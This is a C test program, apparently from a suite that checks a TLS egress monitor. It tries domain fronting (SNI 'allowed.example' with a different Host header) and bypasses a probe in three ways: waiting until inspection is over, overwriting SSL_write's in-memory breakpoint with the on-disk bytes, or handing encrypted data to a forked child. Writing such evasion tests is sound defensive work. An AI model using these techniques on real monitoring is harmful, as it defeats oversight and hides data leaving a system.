// SPDX-License-Identifier: Apache-2.0
/* A request over TLS to an address that is allowed, in the name of somebody else who shares it.
 *	tls HOW ADDRESS PORT HOST
 * HOW: patient (waits first, so that its program has been looked at); patched (the probe's
 *breakpoint in the library is written over first); elsewhere (what is encrypted here is sent by a
 *child). Built twice: tls with the host's library, tls-static with one of its own. */
#include "attempt.h"

#include <fcntl.h>
#include <openssl/ssl.h>
#include <sys/wait.h>

/* The code as the file has it, over the code as the process has it. */
static int patch(void)
{
	unsigned char code[64];
	unsigned long at = (unsigned long)&SSL_write, page = at & ~4095ul, offset = 0;
	char line[512], path[256] = "";
	FILE *maps = fopen("/proc/self/maps", "re");
	int fd;

	while (maps && fgets(line, sizeof(line), maps)) {
		unsigned long from, to, skip;

		if (sscanf(line, "%lx-%lx %*s %lx %*s %*s %255s", &from, &to, &skip, path) == 4 &&
		    at >= from && at < to) {
			offset = at - from + skip;
			break;
		}
	}
	if (maps)
		fclose(maps);
	fd = offset ? open(path, O_RDONLY | O_CLOEXEC) : -1;
	if (fd < 0 || pread(fd, code, sizeof(code), (off_t)offset) != (ssize_t)sizeof(code))
		return -1;
	close(fd);
	if (mprotect((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC))
		return -1;
	memcpy((void *)at, code, sizeof(code));
	return 0;
}

/* SSL_write into memory: who sends it says nothing to any probe. */
static int by_child(SSL *ssl, int fd, const char *text, int n)
{
	BIO *memory = BIO_new(BIO_s_mem());
	char *sealed;
	long len;
	int status;
	pid_t child;

	if (!memory)
		return attempt_setup("BIO_new");
	SSL_set0_wbio(ssl, memory);
	if (SSL_write(ssl, text, n) != n)
		return attempt_setup("SSL_write");
	len = BIO_get_mem_data(memory, &sealed);
	child = fork();
	if (child == 0)
		_exit(send(fd, sealed, (size_t)len, MSG_NOSIGNAL) == len ? THROUGH
									 : attempt_refused("send"));
	if (child < 0 || waitpid(child, &status, 0) != child || !WIFEXITED(status))
		return attempt_setup("child");
	return WEXITSTATUS(status);
}

int main(int argc, char **argv)
{
	SSL_CTX *context = SSL_CTX_new(TLS_client_method());
	SSL *ssl = context ? SSL_new(context) : NULL;
	struct target t;
	char text[1024];
	int fd, n, r;

	if (argc != 5 || !ssl || attempt_target(&t, argv[2], argv[3]))
		return attempt_setup("usage");
	if (strcmp(argv[1], "patient") == 0)
		sleep(4);
	fd = socket(t.family, SOCK_STREAM, 0);
	if (fd < 0)
		return attempt_refused("socket");
	if (connect(fd, (struct sockaddr *)&t.address, t.len))
		return attempt_refused("connect");
	SSL_set_fd(ssl, fd);
	SSL_set_tlsext_host_name(ssl, "allowed.example");
	if (SSL_connect(ssl) != 1)
		return attempt_refused("SSL_connect");
	if (strcmp(argv[1], "patched") == 0 && patch())
		return attempt_setup("patch");
	n = snprintf(text, sizeof(text), "GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n", attempt_token(),
		     argv[4]);
	errno = 0;
	if (strcmp(argv[1], "elsewhere") == 0) {
		r = by_child(ssl, fd, text, n);
		if (r)
			return r;
	} else if (SSL_write(ssl, text, n) <= 0) {
		errno = errno ? errno : ECONNRESET;
		return attempt_refused("SSL_write");
	}
	n = SSL_read(ssl, text, sizeof(text) - 1);
	if (n <= 0) {
		errno = errno ? errno : ECONNRESET;
		return attempt_refused("SSL_read");
	}
	text[n] = 0;
	if (!strstr(text, " 200 ")) {
		errno = EPROTO;
		return attempt_refused("answer");
	}
	printf("through: an answer for %s\n", argv[4]);
	return THROUGH;
}
